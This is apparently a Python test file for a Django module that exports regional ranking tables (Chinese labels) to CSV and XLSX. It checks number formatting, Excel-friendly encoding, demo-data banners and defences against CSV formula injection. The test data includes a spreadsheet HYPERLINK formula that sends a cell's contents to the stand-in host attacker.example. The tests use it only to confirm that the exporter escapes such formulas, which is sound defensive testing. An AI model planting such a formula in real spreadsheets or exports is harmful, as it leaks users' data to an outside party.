"""Every download goes through areas.exports: numbers stay numbers, Chinese opens in Excel, and text that
begins like a formula is shown, never run (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.http import Http404
from openpyxl import load_workbook

from areas.exports import FORMULA_LEADS, Table, csv_bytes, table_response, xlsx_bytes

LINK = 'HYPERLINK("http://attacker.example/?x="&A2,"核查")'


def table(*rows: list) -> Table:
    return Table(title="2025年县（市、区）排名", header=["区域", "数值", "日期"], rows=list(rows), sheet_name="排名")


def test_csv_has_a_bom_the_title_the_header_and_numbers_as_written() -> None:
    body = csv_bytes(table(["临清市", Decimal("63.70"), datetime.date(2025, 3, 1)], ["冠县", -5, None]))
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [
        ["2025年县（市、区）排名"],
        ["区域", "数值", "日期"],
        ["临清市", "63.70", "2025-03-01"],
        ["冠县", "-5", ""],
    ]


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=repr)
def test_csv_quotes_text_that_begins_like_a_formula(lead: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes(table([lead + LINK, Decimal("-12.5"), None])).decode("utf-8-sig"))))
    assert rows[2][0] == "'" + lead + LINK
    assert rows[2][1] == "-12.5"  # a negative number is a number, not a formula


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=repr)
def test_xlsx_writes_such_text_as_text_and_numbers_as_numbers(lead: str) -> None:
    sheet = load_workbook(
        io.BytesIO(xlsx_bytes(table([lead + LINK, Decimal("63.70"), datetime.date(2025, 3, 1)])))
    ).active
    assert sheet.title == "排名"
    assert [c.value for c in sheet[1]][:1] == ["2025年县（市、区）排名"]
    text, number, day = sheet[3]
    # (XML reads a carriage return back as a line feed; the cell is text either way.)
    assert (text.value[1:], text.data_type) == (LINK, "s")
    assert (number.value, number.data_type, number.number_format) == (63.7, "n", "0.00")
    assert day.value.date() == datetime.date(2025, 3, 1)


@pytest.mark.django_db  # a download asks whether demo data are loaded
def test_the_response_names_the_file_and_refuses_other_formats() -> None:
    response = table_response(table(["聊城市", 1, None]), fmt="xlsx", filename="ranking-2025")
    assert response["Content-Disposition"] == 'attachment; filename="ranking-2025.xlsx"'
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert table_response(table(), fmt="csv", filename="x")["Content-Type"] == "text/csv; charset=utf-8"
    with pytest.raises(Http404):
        table_response(table(), fmt="pdf", filename="x")


@pytest.mark.django_db
def test_every_download_says_so_when_demo_data_are_loaded() -> None:
    from targets.models import DemoDataset

    table = Table(header=["AQI"], rows=[[57]], title="聊城市")
    plain = csv_bytes(table).decode("utf-8-sig").splitlines()
    assert table_response(table, fmt="csv", filename="t").content.decode("utf-8-sig").splitlines() == plain

    DemoDataset.objects.create(description="演示")
    lines = table_response(table, fmt="csv", filename="t").content.decode("utf-8-sig").splitlines()
    assert lines[0] == "聊城市 · 演示数据（合成），并非聊城市的真实数据"
    assert lines[1:] == plain[1:]
    untitled = table_response(Table(header=["AQI"], rows=[[57]]), fmt="xlsx", filename="t")
    sheet = load_workbook(io.BytesIO(untitled.content)).active
    assert [cell.value for cell in sheet["A"]] == ["演示数据（合成），并非聊城市的真实数据", "AQI", 57]
